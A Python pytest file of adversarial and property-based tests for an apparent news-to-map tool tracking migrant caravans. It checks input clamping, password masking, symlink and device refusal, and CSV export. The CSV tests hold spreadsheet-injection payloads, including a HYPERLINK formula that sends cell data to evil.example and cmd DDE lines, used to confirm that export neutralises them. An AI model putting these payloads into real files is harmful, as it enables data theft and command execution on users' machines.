"""Hostile and unlucky inputs (issue 13): each ends in a clean result or one clear error line
naming the file and the problem — never a traceback, a hang, or a good article lost.

The cases found by an adversarial run come first, each as it was reported; property-based
cases (Hypothesis) follow. `hostile_support.TALLY` counts the inputs tried; the run's summary
prints the count (conftest.py)."""
from __future__ import annotations

import datetime as dt
import math
from pathlib import Path

import pytest

from dashboard.state import MAX_MIN_SIZE, ViewState, parse_query, to_query
from hostile_support import tried

# --------------------------------------------------------------------------- 1. ?minsize=


@pytest.mark.parametrize("raw, want", [
    ("inf", MAX_MIN_SIZE), ("1e999", MAX_MIN_SIZE), ("-inf", 0), ("1e300", MAX_MIN_SIZE),
    ("-1e999", 0), ("nan", 0), ("Infinity", MAX_MIN_SIZE), ("1e15", MAX_MIN_SIZE),
    ("9" * 5000, MAX_MIN_SIZE), ("3000.7", 3000), ("0x10", 0), ("", 0), (" 2000 ", 2000),
])
def test_minsize_out_of_range_is_clamped_not_a_crash(raw, want):
    tried()
    vs = parse_query({"minsize": raw})
    assert vs.min_size == want
    # what the URL then says is what the widget shows and the filter uses
    assert parse_query(to_query(vs)) == vs


@pytest.fixture
def seeds_env(monkeypatch):
    from dashboard import data
    monkeypatch.delenv(data.DOCUMENT_ENV, raising=False)
    monkeypatch.delenv(data.ARTICLES_DIR_ENV, raising=False)


def test_minsize_of_a_huge_number_filters_everything_it_says(seeds_env):
    pytest.importorskip("streamlit")
    from apptest_support import map_args, run_app, spec_of

    for raw in ("inf", "1e999", "1e300", "-inf"):
        tried()
        at = run_app({"minsize": raw})  # asserts: no exception page
        shown = at.sidebar.number_input(key="f_minsize").value
        if raw == "-inf":
            assert shown == 0
            continue
        assert shown == MAX_MIN_SIZE  # the box shows the filter in force, not "1"
        assert not spec_of(map_args(at))["badges"]  # and no caravan is that large


# --------------------------------------------------------------------------- 10. CSV export

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _csv_cells(text: str) -> list[str]:
    import csv
    import io
    return [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row]


def _live_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting with = + - @ (or a tab/CR before
    one) that is not simply a number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas(dashboard_sample_document, formula):
    from dashboard import exports, journey

    tried()
    doc = dashboard_sample_document
    for a in doc["articles"]:
        a["title"], a["outlet"] = formula, formula
    for c in doc["caravans"]:
        c["label"] = formula
        for o in c["observations"]:
            if o["place"]:
                o["place"]["name"] = formula
    atlas = journey.build_atlas(doc)
    out = exports.to_csv(atlas, journey.visible_stops(atlas, ViewState()))
    cells = _csv_cells(out)
    assert not [c for c in cells if _live_formula(c)]
    assert any(c == "'" + formula for c in cells)  # kept, readable, inert
    # numbers stay numbers: a negative longitude is not a formula
    assert "-92.25891" in cells


@pytest.mark.parametrize("formula", FORMULAS)
def test_places_csv_neutralises_formulas(formula):
    from dashboard import overview

    tried()
    row = {"place_name": formula, "admin1": None, "country_code": None, "kind": "city", "lat": 1.5, "lon": -92.3,
           "caravans": 1, "facts": 2, "roles": {"departure": 1}, "first": "2024-01-01", "last": "2024-01-02",
           "largest": 3000}
    cells = _csv_cells(overview.places_csv([row]))
    assert not [c for c in cells if _live_formula(c)]
    assert "-92.3" in cells


# --------------------------------------------------------------------------- 9. a store URL's password

SECRET = "S3cret-Pw"


@pytest.mark.parametrize("url", [
    f"postgresql+psycopg://caravan:{SECRET}@127.0.0.1:9/nodb",  # nothing listens: connection refused
    f"postgresql+psycopg://caravan:{SECRET}@127.0.0.1:port/nodb",  # not a URL SQLAlchemy can read
    f"nosuchdb://caravan:{SECRET}@127.0.0.1/nodb",  # no such dialect
    f"postgresql+psycopg://caravan:{SECRET}%40x@127.0.0.1:9/nodb",  # a quoted character in it
    f"postgresql+psycopg://caravan:{SECRET}@[::1/nodb",  # broken host
])
@pytest.mark.parametrize("how", ["option", "env"])
def test_a_store_password_is_never_echoed(url, how, tmp_path):
    from hostile_support import cli, error_lines

    seed = "seeds/000_8cc5013a2fc87902.txt"
    if how == "option":
        p = cli("ingest", seed, "--store", url, "--workers", "0")
    else:
        p = cli("ingest", seed, "--workers", "0", env={"CARAVAN_ATLAS_STORE": url})
    assert p.returncode == 2
    [line] = error_lines(p)
    assert "cannot open" in line and "caravan:***@" in line, line
    assert SECRET not in p.stderr_text + p.stdout_text


def test_the_dashboard_masks_a_store_password(monkeypatch):
    pytest.importorskip("streamlit")
    from apptest_support import APP
    from streamlit.testing.v1 import AppTest

    from dashboard import data

    tried()
    monkeypatch.delenv(data.DOCUMENT_ENV, raising=False)
    monkeypatch.delenv(data.ARTICLES_DIR_ENV, raising=False)
    monkeypatch.setenv(data.STORE_ENV, f"postgresql+psycopg://caravan:{SECRET}@127.0.0.1:9/nodb")
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert not at.exception, [e.value for e in at.exception]
    shown = " ".join(e.value for e in at.error)
    assert "caravan:***@127.0.0.1:9/nodb" in shown and SECRET not in shown


# --------------------------------------------------------------------------- 7. metadata.json nested deep

ARTICLE = ("The caravan of about 3,000 migrants left Tapachula on Monday, heading for Mexico City, "
           "organizers said.\n")


DEEP = 100_000


@pytest.mark.parametrize("sidecar", [
    "[" * DEEP + "]" * DEEP,
    '{"a":' * DEEP + "1" + "}" * DEEP,
    '{"x.txt": {"title": ' + "[" * DEEP + "]" * DEEP + "}}",
], ids=["lists", "objects", "inside-the-entry"])
def test_a_deeply_nested_sidecar_is_one_error_per_file(tmp_path, sidecar):
    from hostile_support import cli, error_lines

    (tmp_path / "x.txt").write_text(ARTICLE)
    (tmp_path / "metadata.json").write_text(sidecar)
    for cmd in (["extract"], ["ingest", "--workers", "0", "--store", str(tmp_path / "s.sqlite")]):
        p = cli(*cmd, str(tmp_path))
        assert p.returncode == 2
        [line] = error_lines(p)
        assert "x.txt" in line and "metadata.json" in line and "nested too deeply" in line, line


# --------------------------------------------------------------------------- 2. a file name that is not UTF-8

def _seed_bytes(i: int = 0) -> bytes:
    from hostile_support import ROOT
    return sorted((ROOT / "seeds").glob("*.txt"))[i].read_bytes()


def _stored_ids(url: str) -> set[str]:
    from archive.store import Store
    return Store(url).article_ids()


@pytest.mark.parametrize("workers", ["0", "1"])
def test_a_file_name_that_is_not_utf8_is_reported_and_the_rest_stored(tmp_path, workers):
    import os

    from hostile_support import TALLY, cli, error_lines

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_bytes(_seed_bytes(0))
    bad = os.path.join(os.fsencode(folder), b"bad\xff name.txt")
    with open(bad, "wb") as f:
        f.write(_seed_bytes(1))
    store = tmp_path / "s.sqlite"
    p = cli("ingest", str(folder), "--store", str(store), "--workers", workers)
    assert p.returncode == 2
    [line] = error_lines(p)
    assert "bad\\xff name.txt" in line and "not valid UTF-8" in line, line
    stored = _stored_ids(f"sqlite:///{store}")
    if stored != {"good"}:
        TALLY["lost"] += 1
    assert stored == {"good"}
    p = cli("extract", str(folder))
    assert p.returncode == 2
    [line] = error_lines(p)
    assert "bad\\xff name.txt" in line and "not valid UTF-8" in line, line


# --------------------------------------------------------------------------- 6. links, FIFOs, devices, unreadable folders

def _unprivileged(cmd: list[str]) -> list[str]:
    """`cmd` run as a user that file permissions apply to (root reads a mode-000 folder)."""
    import os
    import shutil
    if os.geteuid() != 0:
        return cmd
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: cannot make a folder unreadable")
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]


@pytest.fixture
def hostile_folder(tmp_path):
    """A folder of one good article and every kind of entry that must be refused."""
    import os

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_bytes(_seed_bytes(2))  # an article, but not in the folder
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_bytes(_seed_bytes(0))
    (folder / "inner-link.txt").symlink_to(folder / "good.txt")  # stays inside: the same article
    (folder / "leak.txt").symlink_to(outside / "secret.txt")
    (folder / "leak-dir").symlink_to(outside, target_is_directory=True)
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "broken.txt").symlink_to(tmp_path / "nothing-here.txt")
    os.mkfifo(folder / "fifo.txt")
    return folder


def test_a_folder_refuses_links_out_fifos_and_devices_each_reported(hostile_folder, tmp_path):
    from hostile_support import TALLY, cli, error_lines

    tried(6)
    store = tmp_path / "s.sqlite"
    p = cli("ingest", str(hostile_folder), "--store", str(store), "--workers", "0", timeout=120)
    assert p.returncode == 2
    lines = error_lines(p)
    by_name = {l.split(": ")[2].rsplit("/", 1)[-1]: l for l in lines}
    assert set(by_name) == {"leak.txt", "leak-dir", "zero.txt", "broken.txt", "fifo.txt"}, lines
    assert "outside the folder" in by_name["leak.txt"] and "outside the folder" in by_name["leak-dir"]
    assert "not a regular file" in by_name["zero.txt"] and "character device" in by_name["zero.txt"]
    assert "not a regular file" in by_name["fifo.txt"] and "FIFO" in by_name["fifo.txt"]
    assert "broken link" in by_name["broken.txt"]
    stored = _stored_ids(f"sqlite:///{store}")
    if stored != {"good"}:
        TALLY["lost"] += 1
    assert stored == {"good"}  # not the file outside; the inner link is the same text: unchanged


@pytest.mark.parametrize("name", ["zero.txt", "fifo.txt"])
@pytest.mark.parametrize("cmd", ["extract", "ingest", "geoparse"])
def test_a_fifo_or_device_named_directly_is_refused_at_once(hostile_folder, tmp_path, name, cmd):
    from hostile_support import cli, error_lines

    extra = ["--store", str(tmp_path / "s.sqlite"), "--workers", "0"] if cmd == "ingest" else []
    p = cli(cmd, str(hostile_folder / name), *extra, timeout=60)
    assert p.returncode == 2
    [line] = error_lines(p)
    assert name in line and "not a regular file" in line, line


def test_an_unreadable_subfolder_is_reported_not_skipped(tmp_path):
    import os
    import shutil
    import subprocess
    import sys
    import tempfile

    from hostile_support import ROOT, TALLY

    tried()
    base = Path(tempfile.mkdtemp(prefix="caravan-atlas-hostile-"))
    try:
        os.chmod(base, 0o777)
        folder = base / "in"
        (folder / "locked").mkdir(parents=True)
        (folder / "good.txt").write_bytes(_seed_bytes(0))
        (folder / "locked" / "hidden.txt").write_bytes(_seed_bytes(1))
        os.chmod(folder, 0o755)
        os.chmod(folder / "good.txt", 0o644)
        os.chmod(folder / "locked", 0o000)
        cache = base / "cache"  # the gazetteer index, where that user can read it
        cache.mkdir()
        from gazetteer.index import index_path
        shutil.copy(index_path(), cache / index_path().name)
        os.chmod(cache / index_path().name, 0o644)
        os.chmod(cache, 0o777)
        env = {**os.environ, "CARAVAN_ATLAS_CACHE": str(cache), "HOME": str(base), "PYTHONDONTWRITEBYTECODE": "1"}
        out = subprocess.run(_unprivileged([sys.executable, "-m", "caravan_atlas", "ingest", str(folder), "--store",
                                            str(base / "s.sqlite"), "--workers", "0"]),
                             capture_output=True, text=True, timeout=120, cwd=ROOT, env=env)
        assert "Traceback" not in out.stderr, out.stderr
        assert out.returncode == 2, out.stderr
        lines = [l for l in out.stderr.splitlines() if "error:" in l]
        assert len(lines) == 1, out.stderr
        [line] = lines
        assert "locked" in line and "cannot read folder" in line, line
        os.chmod(folder / "locked", 0o755)
        stored = _stored_ids(f"sqlite:///{base / 's.sqlite'}")
        if stored != {"good"}:
            TALLY["lost"] += 1
        assert stored == {"good"}
    finally:
        for d, dirs, _ in os.walk(base):
            for x in dirs:
                os.chmod(os.path.join(d, x), 0o755)
        shutil.rmtree(base, ignore_errors=True)


# --------------------------------------------------------------------------- 8. geoparse's size limit

@pytest.mark.parametrize("where", ["file", "stdin"])
def test_geoparse_refuses_text_over_the_limit_at_once(tmp_path, where):
    import subprocess
    import sys

    from hostile_support import ROOT, bounded, tried
    from journeys.articles import MAX_BYTES

    big = tmp_path / "big.txt"
    with open(big, "wb") as f:
        line = b"The caravan left Tapachula for Huixtla and Escuintla on Monday. " * 16 + b"\n"
        while f.tell() <= 5 * MAX_BYTES:  # 50 MB
            f.write(line)
    tried()
    with bounded(30, "geoparse of 50 MB"):
        if where == "file":
            p = subprocess.run([sys.executable, "-m", "caravan_atlas", "geoparse", str(big)], capture_output=True,
                               text=True, timeout=60, cwd=ROOT)
        else:
            with open(big, "rb") as f:
                p = subprocess.run([sys.executable, "-m", "caravan_atlas", "geoparse", "-"], stdin=f,
                                   capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert p.returncode == 2 and "Traceback" not in p.stderr
    [line] = p.stderr.splitlines()
    assert line.startswith("caravan-atlas: error: ") and f"over the {MAX_BYTES}-byte limit" in line, line
    assert (str(big) if where == "file" else "<stdin>") in line


# --------------------------------------------------------------------------- 12. Store.correct

@pytest.fixture(scope="module")
def seeded_sqlite(tmp_path_factory):
    """One SQLite store of the seeds, shared by the correction cases (each leaves it as it was)."""
    from hostile_support import ROOT
    from archive.ingest import ingest
    from archive.store import Store

    store = Store(f"sqlite:///{tmp_path_factory.mktemp('corr') / 's.sqlite'}")
    ingest([ROOT / "seeds"], store)
    return store


def _a_fact(store) -> str:
    return next(o["fact"] for c in store.document(with_text=False)["caravans"] for o in c["observations"]
                if o["place"])


MB = "x" * 1_000_000


def _bad_corrections(fact: str) -> list[tuple]:
    """(action, payload, editor, note) that must each be refused with one clear line."""
    place = {"name": "Tapachula", "lat": 14.9, "lon": -92.26}
    edit = lambda ch: ("edit", {"fact": fact, "changes": ch}, "Ana", None)  # noqa: E731
    return [
        ("edit", "not a dict", "Ana", None), ("edit", None, "Ana", None), ("edit", [fact], "Ana", None),
        (5, {"fact": fact}, "Ana", None), (None, {"fact": fact}, "Ana", None), (["reject"], {"fact": fact}, "Ana", None),
        ("reject", {"fact": fact}, 5, None), ("reject", {"fact": fact}, None, None), ("reject", {"fact": fact}, MB, None),
        ("reject", {"fact": fact}, "Ana\x00", None), ("reject", {"fact": fact}, "Ana", MB),
        ("reject", {"fact": fact}, "Ana", 5),
        edit("a string"), edit([["role", "waypoint"]]), edit(None), edit({}), edit({"colour": "red"}),
        edit({"role": ["departure"]}), edit({"role": None}), edit({"date": 20211010}), edit({"date": "2021-13-45"}),
        edit({"date_precision": ["day"]}), edit({"size_low": 1.5}), edit({"size_low": "3000"}),
        edit({"size_low": True}), edit({"size_low": 10**30}), edit({"size_low": -1}),
        edit({"size_low": 10, "size_high": 5}),
        edit({"place": "Tapachula"}), edit({"place": ["Tapachula"]}), edit({"place": {"lat": 14.9, "lon": -92.26}}),
        edit({"place": {**place, "name": ""}}), edit({"place": {**place, "name": "  "}}),
        edit({"place": {**place, "name": MB}}), edit({"place": {**place, "name": 5}}),
        edit({"place": {**place, "lat": "nan"}}), edit({"place": {**place, "lon": float("inf")}}),
        edit({"place": {**place, "lat": 91}}), edit({"place": {**place, "lat": None}}),
        edit({"place": {**place, "lat": True}}), edit({"place": {**place, "country_code": MB}}),
        edit({"place": {**place, "kind": ["city"]}}), edit({"place": {**place, "admin1": 5}}),
        edit({"place": {**place, "name": "Tapa\x00chula"}}),
        ("reject", {"fact": [fact]}, "Ana", None), ("reject", {"fact": {"k": fact}}, "Ana", None),
        ("reject", {"fact": 5}, "Ana", None), ("reject", {"fact": ""}, "Ana", None), ("reject", {}, "Ana", None),
        ("restore", {"fact": MB}, "Ana", None),
        ("move", {"fact": fact, "to": [fact]}, "Ana", None), ("move", {"fact": fact, "to": 5}, "Ana", None),
        ("move", {"fact": fact, "label": MB}, "Ana", None), ("move", {"fact": fact, "label": 5}, "Ana", None),
        ("rename", {"anchor": fact, "label": MB}, "Ana", None), ("rename", {"anchor": fact, "label": 5}, "Ana", None),
        ("rename", {"anchor": fact, "label": ["a"]}, "Ana", None), ("rename", {"anchor": fact, "label": "a\x00"}, "Ana", None),
        ("rename", {"anchor": [fact], "label": "x"}, "Ana", None),
        ("merge", {"anchor": fact, "other": [fact]}, "Ana", None), ("merge", {"anchor": 5, "other": fact}, "Ana", None),
        ("split", {"facts": fact}, "Ana", None), ("split", {"facts": [fact, [fact]]}, "Ana", None),
        ("split", {"facts": {fact: 1}}, "Ana", None), ("split", {"facts": [fact], "label": MB}, "Ana", None),
        ("split", {"facts": [fact] * 100_001}, "Ana", None),
    ]


def test_malformed_corrections_are_refused_with_one_line_and_nothing_stored(seeded_sqlite):
    from archive.corrections import CorrectionError

    store = seeded_sqlite
    fact = _a_fact(store)
    before, before_corrections = store.document(with_text=False), store.corrections()
    refused = []
    for action, payload, editor, note in _bad_corrections(fact):
        tried()
        try:
            store.correct(action, payload, editor=editor, note=note)
        except CorrectionError as e:
            msg = str(e)
            assert "\n" not in msg and 0 < len(msg) <= 300, msg
            refused.append(msg)
        except Exception as e:  # anything else is what a caller would see as a traceback
            raise AssertionError(f"{action!r} {str(payload)[:200]}: {type(e).__name__}: {str(e)[:300]}") from None
        else:
            raise AssertionError(f"accepted: {action!r} {str(payload)[:200]} editor={str(editor)[:40]!r}")
    assert store.corrections() == before_corrections
    assert store.document(with_text=False) == before
    assert len(refused) == len(_bad_corrections(fact))


def test_a_well_formed_correction_is_still_accepted(seeded_sqlite):
    store = seeded_sqlite
    fact = _a_fact(store)
    cid = store.correct("edit", {"fact": fact, "changes": {"place": {"name": "Tapachula", "lat": 14.9, "lon": -92.26,
                                                                       "country_code": "MX", "admin1": "Chiapas",
                                                                       "kind": "city"}, "role": "waypoint",
                                                            "date": None}}, editor="Ana", note="checked")
    assert [c["id"] for c in store.corrections()] == [cid]


# --------------------------------------------------------------------------- 3. time linear in the length

def test_size_parsing_of_a_sentence_of_10000_figures_is_quick():
    from hostile_support import bounded
    from journeys.sizes import MAX_FIGURES, find_sizes

    tried()
    s = "About " + ", ".join(f"{1000 + i:,} migrants" for i in range(10_000)) + " left Tapachula."
    with bounded(5, "find_sizes, 10,000 figures"):  # 2,000 took 25 s; 10,000 minutes
        sizes = find_sizes(s)
    assert len(sizes) == MAX_FIGURES  # a list, not prose: its first figures are read
    assert sizes[0].low == 1000 and sizes[0].is_caravan_size


def test_sizes_in_a_long_sentence_read_as_in_a_short_one():
    from journeys.sizes import find_sizes

    tried()
    short = "A caravan of about 3,000 migrants left Tapachula on Monday."
    padded = "x " * 3000 + short
    a, b = find_sizes(short), find_sizes(padded)
    assert [(z.low, z.high, z.qualifier, z.is_caravan_size, z.text) for z in a] == \
        [(z.low, z.high, z.qualifier, z.is_caravan_size, z.text) for z in b]
    assert [z.start + 6000 for z in a] == [z.start for z in b]


@pytest.mark.parametrize("lines", ["alike", "permuted"])
def test_the_near_duplicate_check_of_5000_alike_lines_is_quick(lines):
    import itertools

    from hostile_support import bounded
    from journeys.articles import segment

    tried()
    if lines == "alike":  # 2,000 such lines took 74 s
        text = "\n".join(f"The caravan of migrants walked north through Chiapas on day {i} of {i * 7} they said."
                         for i in range(5000))
    else:  # one paragraph of wrapped lines, each the same words in another order
        words = "caravan migrants walked north through chiapas towards mexico".split()
        text = "\n".join(" ".join(p) for p in itertools.islice(itertools.permutations(words), 5000))
    with bounded(10, f"segment, 5,000 {lines} lines"):
        sentences = segment(text)
    assert sentences


def test_near_duplicates_are_still_found():
    from journeys.articles import segment

    tried()
    a = "About 3,000 migrants left Tapachula on Monday heading for Mexico City, organizers said."
    b = "About 3,000 migrants left Tapachla on Monday heading for Mexico City, organizers said."
    fillers = [f"Filler sentence number {i} talks about the weather in town {i}." for i in range(20)]
    s = segment(" ".join([a, *fillers, b]))
    assert s[-1].duplicate_of == 0


def test_dates_in_one_long_sentence_are_quick():
    from hostile_support import bounded
    from journeys.dates import find_dates

    tried()
    s = "The caravan moved " + ", ".join(f"on {1 + i % 28} October 2021" for i in range(20_000)) + "."
    with bounded(10, "find_dates, 20,000 dates"):
        found = find_dates(s, None)
    assert len(found) == 20_000


def test_a_list_of_4000_distinct_place_names_is_resolved_quickly():
    from gazetteer.geocoder import default_gazetteer
    from geoparser import geoparse
    from hostile_support import bounded

    tried()
    names = [k.title() for k in default_gazetteer().index.names if k.isalpha() and len(k) > 4][:4000]
    with bounded(20, "geoparse, 4,000 distinct place names"):  # 64 s of CPU when each built its context
        found = geoparse(", ".join(names) + ".\n")
    assert len(found) > 3000 and found.unread == 0


def test_place_mentions_past_the_cap_are_reported_not_silently_dropped(monkeypatch):
    import journeys.extract as ex
    from journeys.articles import Article

    tried()
    line = "The caravan of migrants walked north through Chiapas on day {} they said.\n"
    text = "".join(line.format(i) for i in range(30))
    article = Article(id="alike", path="alike.txt", title=None, outlet=None, published=None, url=None, text=text)
    full = ex.Extractor().extract(article)
    assert full.unread == {} and full.unread_note() is None  # under the caps: all read, nothing said
    monkeypatch.setattr(ex, "MAX_ARTICLE_PLACES", 10)
    capped = ex.Extractor().extract(article)
    assert capped.unread == {"place mentions": 20}  # 30 lines, one place each, 10 read
    assert capped.unread_note().startswith("alike: ") and "20 place mentions" in capped.unread_note()
    # what was read is read as before: Chiapas, passed on the way
    assert [(o.role, o.place.text) for c in capped.caravans for o in c.observations] == \
        [(o.role, o.place.text) for c in full.caravans for o in c.observations]


def test_text_past_the_geoparser_cap_is_said_and_the_part_read_is_read_as_before(monkeypatch):
    import geoparser.parse as gp

    tried()
    text = "They walked from Tapachula to Huixtla, then Escuintla and Mapastepec. " * 20
    full = gp.geoparse(text)
    monkeypatch.setattr(gp, "MAX_CANDIDATES", 10)
    capped = gp.geoparse(text)
    assert full.unread == 0 and full.read_to is None
    assert capped.read_to == [t for t in full if t.kind == "place"][10].start
    assert capped.unread == len(text) - capped.read_to
    assert [(t.start, t.text, t.place) for t in capped] == \
        [(t.start, t.text, t.place) for t in full if t.start < capped.read_to]


def test_extract_and_ingest_say_what_the_caps_left_unread(tmp_path):
    from hostile_support import cli

    folder = tmp_path / "in"
    folder.mkdir()
    line = "The caravan of migrants walked north through Chiapas on day {} they said.\n"
    (folder / "alike.txt").write_text("".join(line.format(i) for i in range(2_100)), encoding="utf-8")
    for args in (["extract", str(folder)], ["ingest", str(folder), "--store", f"sqlite:///{tmp_path / 's.db'}"]):
        p = cli(*args, timeout=300)
        assert p.returncode == 0, p.stderr_text[-2000:]
        assert "alike: past the caps" in p.stderr_text and "100 place mentions" in p.stderr_text, p.stderr_text


def test_the_geoparse_command_says_what_its_cap_left_unread(tmp_path):
    from hostile_support import cli

    f = tmp_path / "places.txt"
    f.write_text("Tapachula, Huixtla, Escuintla, " * 40_000 + "\n", encoding="utf-8")  # 120,000 names
    p = cli("geoparse", str(f), timeout=300)
    assert p.returncode == 0 and b"Traceback" not in p.stderr
    assert b"not geoparsed past character " in p.stderr, p.stderr[-500:]


# --------------------------------------------------------------------------- 5. NUL in metadata (PostgreSQL)

def test_nul_characters_in_metadata_are_dropped_and_the_batch_stored(backend, tmp_path):
    import json

    from archive.ingest import ingest

    tried()
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_bytes(_seed_bytes(0))
    (folder / "b.txt").write_bytes(_seed_bytes(1))
    (folder / "metadata.json").write_text(json.dumps({
        "a.txt": {"title": "Cara\u0000van", "outlet": "AP\u0000", "published": "2021-10-23",
                  "url": "https://example.org/\u0000x", "tags": ["mi\u0000grants", {"k\u0000ey": "v\u0000"}]},
    }))
    store = backend.store()
    result = ingest([folder], store)
    assert not result.failed and sorted(result.added) == ["a", "b"]
    doc = store.document(with_text=False)
    a = next(x for x in doc["articles"] if x["id"] == "a")
    assert (a["title"], a["outlet"], a["url"]) == ("Caravan", "AP", "https://example.org/x")
    assert "\x00" not in json.dumps(doc)


# --------------------------------------------------------------------------- properties (Hypothesis)

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

PROPERTY = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                             HealthCheck.too_slow])
_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=400)
_WORDY = st.lists(st.sampled_from(["caravan", "of", "about", "3,000", "migrants", "left", "Tapachula", "on",
                                   "Monday", "between", "2,000", "and", "4,000", "thousands", "—", "(", "”", ".",
                                   "Oct.", "23", "2021", "last", "week", "in", "early", "September", "$", "900",
                                   "hundreds", "of", "people", "-", "1e999", "12:30", "years", "old", ",", "\n"]),
                  max_size=60).map(" ".join)


def _one_line_naming(e, path) -> None:
    msg = str(e)
    assert "\n" not in msg and msg.startswith(str(path) + ": ") and len(msg) < 2000, msg


@PROPERTY
@given(raw=st.one_of(st.binary(max_size=2000), _TEXT.map(lambda t: t.encode("utf-8", "surrogatepass"))))
def test_property_the_article_reader_reads_or_refuses_in_one_line(tmp_path, raw):
    from journeys.articles import ArticleError, parse_article, read_article

    tried()
    p = tmp_path / "a.txt"
    p.write_bytes(raw)
    try:
        a = read_article(p)
    except ArticleError as e:
        _one_line_naming(e, p)
        with pytest.raises(ArticleError) as same:  # an upload's bytes, read in memory, are refused alike
            parse_article(raw, p)
        assert str(same.value) == str(e)
    else:
        assert a.text.strip() and a.content_hash
        assert parse_article(raw, p) == a  # ... or read alike


_FM_VALUE = st.one_of(_TEXT.filter(lambda t: "\n" not in t and "\r" not in t), st.sampled_from(
    ["2021-10-23", "2021-13-45", "0000-00-00", "9999-12-31", "2021-02-29T12:00:00Z", "null", "~", "true",
     "'quoted'", '"', "---", "1e999", "2021-10-23 25:99", "\u0000"]))


@PROPERTY
@given(keys=st.lists(st.one_of(st.sampled_from(["title", "outlet", "published", "url", "x"]),
                               _TEXT.filter(lambda t: "\n" not in t and "\r" not in t)), max_size=8),
       values=st.lists(_FM_VALUE, min_size=8, max_size=8), closed=st.booleans(), body=_WORDY)
def test_property_front_matter_reads_or_refuses_in_one_line(tmp_path, keys, values, closed, body):
    from journeys.articles import ArticleError, read_article

    tried()
    p = tmp_path / "fm.md"
    lines = ["---", *[f"{k}: {v}" for k, v in zip(keys, values)]] + (["---"] if closed else [])
    p.write_text("\n".join(lines) + "\n" + body + " The caravan left Tapachula.\n", encoding="utf-8",
                 errors="surrogatepass")
    try:
        a = read_article(p)
    except ArticleError as e:
        _one_line_naming(e, p)
    else:
        assert a.published is None or isinstance(a.published, dt.date)


@PROPERTY
@given(text=st.one_of(_TEXT, _WORDY), pub=st.one_of(st.none(), st.dates()))
def test_property_dates_are_found_within_the_text(text, pub):
    from journeys.dates import find_dates

    tried()
    for d in find_dates(text, pub, offset=7):
        assert 7 <= d.start - 0 <= d.end <= len(text) + 7
        assert d.date is None or isinstance(d.date, dt.date)


@PROPERTY
@given(text=st.one_of(_TEXT, _WORDY))
def test_property_sizes_are_ranges_within_the_text(text):
    from journeys.sizes import find_sizes

    tried()
    for z in find_sizes(text, offset=3):
        assert 3 <= z.start <= z.end <= len(text) + 3
        assert z.text == text[z.start - 3:z.end - 3]
        if z.low is not None:
            assert 0 <= z.low <= z.high


_PARAM = st.one_of(_TEXT, st.sampled_from(["inf", "-inf", "nan", "1e999", "1e300", "-0", "0x1F", "2021-10-23",
                                            "9999-99-99", "a1#1", "19.4,-99.1", "91,0", "nan,nan", "1e999,1"]))


@PROPERTY
@given(params=st.dictionaries(st.sampled_from(["caravan", "from", "to", "asof", "minsize", "outlet", "stop", "src",
                                               "place", "other"]),
                              st.one_of(_PARAM, st.lists(_PARAM, max_size=4)), max_size=9))
def test_property_any_url_opens_a_valid_view(params):
    tried()
    kw = dict(caravan_ids=["a1#1", "b"], outlets=["AP"], stop_ids=["a1#1:0"], date_min=dt.date(2021, 1, 1),
              date_max=dt.date(2024, 12, 31))
    vs = parse_query(params, **kw)
    assert 0 <= vs.min_size <= MAX_MIN_SIZE and isinstance(vs.min_size, int)
    assert set(vs.caravans) <= {"a1#1", "b"} and set(vs.outlets) <= {"AP"}
    for d in (vs.start, vs.end, vs.as_of):
        assert d is None or kw["date_min"] <= d <= kw["date_max"]
    assert vs.source >= 0
    assert parse_query(to_query(vs), **kw) == vs  # the link it writes opens the same view


_JSON = st.recursive(st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), _TEXT),
                     lambda inner: st.one_of(st.lists(inner, max_size=4),
                                             st.dictionaries(st.one_of(_TEXT, st.sampled_from(
                                                 ["fact", "changes", "to", "label", "anchor", "other", "facts",
                                                  "role", "date", "size_low", "size_high", "place", "name", "lat",
                                                  "lon"])), inner, max_size=5)),
                     max_leaves=20)


@PROPERTY
@given(action=st.one_of(st.sampled_from(["edit", "move", "reject", "restore", "rename", "merge", "split"]), _JSON),
       payload=_JSON, editor=st.one_of(st.just("Ana"), _JSON), note=st.one_of(st.none(), _JSON))
def test_property_the_correction_api_accepts_or_refuses_in_one_line(seeded_sqlite, action, payload, editor, note):
    from archive.corrections import CorrectionError

    tried()
    store = seeded_sqlite
    n = len(store.corrections())
    try:
        store.correct(action, payload, editor=editor, note=note)
    except CorrectionError as e:
        assert "\n" not in str(e) and len(str(e)) <= 300, str(e)
        assert len(store.corrections()) == n  # nothing stored


# --------------------------------------------------------------------------- 11. password guessing

class _Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now


def test_password_guessing_backs_off_per_client_and_forgets():
    from dashboard.editing import PasswordThrottle

    tried()
    clock = _Clock()
    t = PasswordThrottle(clock=clock)
    for _ in range(t.free):  # a few slips cost nothing
        assert t.wait("a") == 0
        t.failed("a")
    waits = []
    for _ in range(6):  # then each failure doubles the wait
        w = t.wait("a")
        assert w > 0
        waits.append(w)
        assert t.wait("a") == w  # asking again during the wait does not count as a guess
        clock.now += w
        assert t.wait("a") == 0
        t.failed("a")
    assert waits == sorted(waits) and waits[-1] >= 2 * waits[-2] or waits[-1] == t.cap
    assert t.wait("b") == 0  # another client is not slowed by a's guesses
